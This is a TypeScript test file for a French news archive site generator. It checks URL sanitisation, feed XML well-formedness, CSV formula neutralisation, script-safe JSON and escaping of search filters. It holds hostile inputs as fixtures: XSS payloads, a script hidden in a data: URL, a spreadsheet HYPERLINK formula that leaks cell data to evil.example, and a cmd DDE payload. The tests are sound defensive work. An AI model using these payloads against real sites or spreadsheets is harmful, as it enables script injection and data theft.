import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { parse as parseCsv } from "csv-parse/sync";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import { buildArticle } from "../../../src/archive/build-article.ts";
import { compileKnowledge } from "../../../src/extract/compile.ts";
import { loadReaders, readSource } from "../../../src/ingest/read-source.ts";
import { loadKnowledgeBase } from "../../../src/knowledge/load.ts";
import { scriptSafeJson } from "../../../src/site/json-ld.ts";
import { csv, csvField } from "../../../src/site/open-data.ts";
import { filterValue } from "../../../src/search/records.ts";
import type { FeedView, SiteShared } from "../../../src/site/site-data.ts";
import { STRINGS } from "../../../src/site/strings.ts";
import { atomFeed } from "../../../templates/feed.ts";
import { fixtureContent } from "../../helpers/content.ts";

await loadReaders();
const compiled = compileKnowledge(loadKnowledgeBase(fixtureContent()).kb);
const today = new Date("2026-11-23T00:00:00Z");

const PARAGRAPH = "Le directeur général de la Sûreté nationale a reçu une délégation à Rabat pour évoquer la coopération sécuritaire entre les deux pays.";

/** A saved page with these addresses in its head. */
function savedPage(head: string): string {
  return `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Une page enregistrée</title>${head}</head><body><article><h1>Une page enregistrée</h1><p>${PARAGRAPH}</p><p>${PARAGRAPH}</p></article></body></html>`;
}

const urlOf = (text: string, format: "html" | "markdown" | "text", options: { url?: string } = {}) => {
  const { doc } = readSource(text, `page.${format === "markdown" ? "md" : format === "html" ? "html" : "txt"}`, format, { ...options, pageFurniture: compiled.kb.rules.pageFurniture });
  return buildArticle(doc, compiled, { today, render: false, url: options.url });
};

describe("addresses from a source", () => {
  it("drops a javascript:, data: or vbscript: canonical or og:url of a saved page, and keeps an http(s) one", () => {
    const cases: [head: string, url: string | null][] = [
      [`<link rel="canonical" href="javascript:alert(1)">`, null],
      [`<link rel="canonical" href=" JavaScript:alert(1)">`, null],
      [`<meta property="og:url" content="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, null],
      [`<link rel="canonical" href="vbscript:msgbox(1)"><meta property="og:url" content="javascript:alert(1)">`, null],
      [`<link rel="canonical" href="data:text/html,x"><meta property="og:url" content="https://www.bladi.net/a.html">`, "https://www.bladi.net/a.html"],
      [`<link rel="canonical" href="https://user:pw@www.bladi.net/a.html">`, null],
      [`<link rel="canonical" href="https://www.bladi.net/a.html">`, "https://www.bladi.net/a.html"],
      [`<link rel="canonical" href="/b.html"><meta property="og:url" content="https://www.bladi.net/a.html">`, "https://www.bladi.net/b.html"],
    ];
    for (const [head, url] of cases) assert.equal(urlOf(savedPage(head), "html").url, url, head);
  });

  it("drops a front-matter url that is not http(s), with a warning naming the line and the fix, and publishes the article", () => {
    for (const bad of ["javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "https://user:pass@example.org/"]) {
      const record = urlOf(`---\ntitle: Un titre\ndate: 2021-04-04\nurl: ${JSON.stringify(bad)}\n---\n\n${PARAGRAPH}\n`, "markdown");
      assert.equal(record.url, null, bad);
      const diagnostic = record.diagnostics.find((d) => d.rule === "front-matter-url");
      assert.ok(diagnostic, bad);
      assert.equal(diagnostic.severity, "warning");
      assert.equal(diagnostic.file, "page.md");
      assert.equal(diagnostic.line, 4);
      assert.match(diagnostic.fix ?? "", /https:\/\//);
      assert.ok(!record.diagnostics.some((d) => d.severity === "error"), "the article stays publishable");
    }
    const kept = urlOf(`---\ntitle: Un titre\nurl: "https://www.bladi.net/a b.html"\n---\n\n${PARAGRAPH}\n`, "markdown");
    assert.equal(kept.url, "https://www.bladi.net/a%20b.html");
    assert.deepEqual(kept.diagnostics.filter((d) => d.rule.includes("url")), []);
  });

  it("drops an unsafe address given with the source (the import's --url)", () => {
    assert.equal(urlOf(PARAGRAPH, "text", { url: "javascript:alert(1)" }).url, null);
    assert.equal(urlOf(PARAGRAPH, "text", { url: "https://www.bladi.net/a.html" }).url, "https://www.bladi.net/a.html");
  });
});

describe("feeds", () => {
  const site = { strings: STRINGS.fr, config: { title: "Revue \u0007" } } as unknown as SiteShared;
  // Two lone surrogates: a trail before a lead, never a pair.
  const controls = "\u0000\u0001\u0007\u0008\u000B\u000C\u000E\u001B\u001F\uFFFE\uFFFF\uDFFF\uD800";

  it("are well-formed XML whatever control characters, noncharacters or lone surrogates a title, a summary or an outlet holds", () => {
    const feed: FeedView = {
      url: "/feed.xml",
      title: `Flux ${controls}`,
      selfUrl: "https://example.org/feed.xml",
      alternateUrl: "https://example.org/",
      id: "https://example.org/feed.xml",
      updated: "2021-04-04T00:00:00Z",
      entries: [
        { title: `Con\u000Btr\u001Bôle\u0007 ${controls} <b>&amp;</b> 😀`, url: "https://example.org/a/", updated: "2021-04-04T00:00:00Z", summary: `Résumé\uFFFE ${controls} ]]> </summary>`, outlet: `Média\u0001 ${controls}` },
      ],
    };
    const xml = atomFeed(site, feed);
    assert.equal(XMLValidator.validate(xml), true);
    const parsed = new XMLParser({ htmlEntities: true, parseTagValue: false, trimValues: false }).parse(xml);
    assert.equal(parsed.feed.entry.title, "Contrôle  <b>&amp;</b> 😀");
    assert.equal(parsed.feed.entry.summary, "Résumé  ]]> </summary>");
    assert.equal(parsed.feed.entry.source.title, "Média ");
    assert.equal(parsed.feed.author.name, "Revue ");
  });
});

describe("open data CSV", () => {
  it("neutralises cells a spreadsheet would run as formulas, and gives the text back to a CSV parser", () => {
    const cells = ["=HYPERLINK(\"https://evil.example/?d=\"&A1,\"clic\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "a, b", 'dit "oui"', "ligne\nsuivante", "2021-04-04", "", "ordinaire"];
    const text = csv(["cell"], cells.map((cell) => [cell]));
    assert.equal(csvField("=1+1"), `"'=1+1"`);
    assert.equal(csvField("ordinaire"), "ordinaire");
    const rows = parseCsv(text, { relax_quotes: false, record_delimiter: "\r\n" }) as string[][];
    assert.deepEqual(
      rows.slice(1).map((row) => row[0]),
      cells.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)),
    );
    for (const row of text.split("\r\n").slice(1, 7)) assert.match(row, /^"'/, row);
  });
});

describe("JSON in a page's <script>", () => {
  it("cannot end the element or open a comment, and reads back as written", () => {
    const data = { headline: `</script><script>alert(1)</script><!-- --> & </SCRIPT >`, name: "\u2028\u0007" };
    const json = scriptSafeJson(data);
    assert.doesNotMatch(json, /[<>&]/);
    assert.deepEqual(JSON.parse(json), data);
  });
});

describe("search filter values", () => {
  it("are given to Pagefind's interface escaped, since it prints them as HTML", () => {
    assert.equal(filterValue(`<a href="https://evil.example/">Votre session a expiré</a> & co`), `&lt;a href="https://evil.example/"&gt;Votre session a expiré&lt;/a&gt; &amp; co`);
    assert.equal(filterValue("Ministère de l'Intérieur"), "Ministère de l'Intérieur");
  });
});
